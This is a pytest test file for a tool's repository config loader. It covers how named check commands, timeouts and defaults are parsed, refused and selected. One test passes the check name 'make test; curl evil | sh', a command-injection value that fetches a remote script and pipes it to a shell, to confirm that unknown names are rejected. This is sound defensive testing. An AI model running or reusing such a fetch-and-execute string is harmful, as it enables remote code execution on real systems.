"""What may stand under `checks` in a repository's settings, and what a choice of names means."""

from pathlib import Path

import pytest

from sow.config.checks import (
    DEFAULT_TIMEOUT_SECONDS,
    CheckCommand,
    Checks,
    NoChecks,
    UnknownCheck,
    checks_of,
    chosen,
    read_repository,
)
from sow.config.config_errors import InvalidConfiguration
from sow.config.configuration import Configuration
from sow.config.effective import check_settings_given
from sow.config.load import load_configuration


def read(folder: Path, text: str) -> Checks:
    path = folder / "config.yaml"
    path.write_text(text)
    return checks_of(read_repository(path))


def test_a_check_is_a_command_line_or_a_table(tmp_path: Path) -> None:
    text = 'checks: {unit: "make test", lint: {run: make lint, timeout: 5m}, default: [unit]}'
    found = read(tmp_path, text)
    unit = CheckCommand(name="unit", run="make test", timeout_seconds=DEFAULT_TIMEOUT_SECONDS)
    lint = CheckCommand(name="lint", run="make lint", timeout_seconds=300.0)
    assert list(found.commands.values()) == [unit, lint]
    assert found.default == ("unit",)


@pytest.mark.parametrize("text", ["", "checks:\n", "checks: {}", "worker: {concurrency: 2}"])
def test_a_file_without_checks_has_none(tmp_path: Path, text: str) -> None:
    assert read(tmp_path, text) == Checks(commands={}, default=())


@pytest.mark.parametrize(
    ("text", "line", "key", "reason"),
    [
        ("checks:\n  unit: [make]\n", 2, "checks.unit", "it must be a command line"),
        ("checks:\n  unit:\n", 2, "checks.unit", "it must be a command line"),
        ("checks:\n  Unit: make\n", 2, "checks.Unit", "lower-case letters"),
        ("checks:\n  ../x: make\n", 2, "checks.../x", "lower-case letters"),
        ("checks:\n  default: unit\n", 2, "checks.default", "it must be a list"),
        ("checks:\n  default: [unit]\n", 2, "checks.default", "there is no check unit"),
    ],
)
def test_what_is_no_check_is_refused_with_its_place(
    tmp_path: Path, text: str, line: int, key: str, reason: str
) -> None:
    with pytest.raises(InvalidConfiguration) as raised:
        read(tmp_path, text)
    error = raised.value
    assert (error.line, error.key) == (line, key)
    assert reason in error.reason
    assert error.remedy


@pytest.mark.parametrize("value", ["{run: make, timeout: soon}", "{timeout: 5m}", '{run: ""}', "7"])
def test_what_does_not_fit_is_refused(tmp_path: Path, value: str) -> None:
    with pytest.raises(InvalidConfiguration):
        read(tmp_path, f"checks:\n  unit: {value}\n")


def load(folder: Path, text: str) -> Configuration:
    (folder / "config.yaml").write_text(text)
    return load_configuration(
        path=folder / "user.yaml", repository_path=folder / "config.yaml", environ={}, roles=[]
    )


def test_a_file_with_a_broken_check_stops_whoever_needs_it(tmp_path: Path) -> None:
    with pytest.raises(InvalidConfiguration):
        load(tmp_path, "checks: {unit: [make]}")


def test_the_configuration_shows_them(tmp_path: Path) -> None:
    configuration = load(tmp_path, "checks: {unit: make test, default: [unit]}")
    shown = {".".join(each.key): each.value for each in check_settings_given(configuration)}
    assert shown == {"checks.unit": "make test", "checks.default": ["unit"]}
    assert list(check_settings_given(load(tmp_path, ""))) == []


def test_a_check_may_be_called_like_a_setting_of_time_or_size(tmp_path: Path) -> None:
    configuration = load(tmp_path, "checks: {timeout: make a, disk: make b, cpu: make c}")
    shown = [each.value for each in check_settings_given(configuration)]
    assert shown == ["make a", "make b", "make c"]


CHECKS = Checks(
    commands={
        name: CheckCommand(name=name, run="x", timeout_seconds=1.0) for name in ("unit", "lint")
    },
    default=("lint",),
)
PLACE = Path("config.yaml")


def test_names_are_meant_in_their_order_and_once() -> None:
    assert chosen(CHECKS, ["lint", "unit", "lint"], PLACE) == ("lint", "unit")


def test_without_names_the_default_is_meant() -> None:
    assert chosen(CHECKS, [], PLACE) == ("lint",)


@pytest.mark.parametrize("name", ["units", "default", "make test; curl evil | sh"])
def test_another_name_is_refused_with_the_known_ones(name: str) -> None:
    with pytest.raises(UnknownCheck) as raised:
        chosen(CHECKS, [name], PLACE)
    assert "unit, lint" in raised.value.hint


def test_where_nothing_is_meant_it_is_said_how_to_name_one() -> None:
    with pytest.raises(NoChecks) as raised:
        chosen(Checks(commands=CHECKS.commands, default=()), [], PLACE)
    assert "checks.default" in raised.value.hint
    with pytest.raises(NoChecks) as raised:
        chosen(Checks(commands={}, default=()), [], PLACE)
    assert "make test" in raised.value.hint
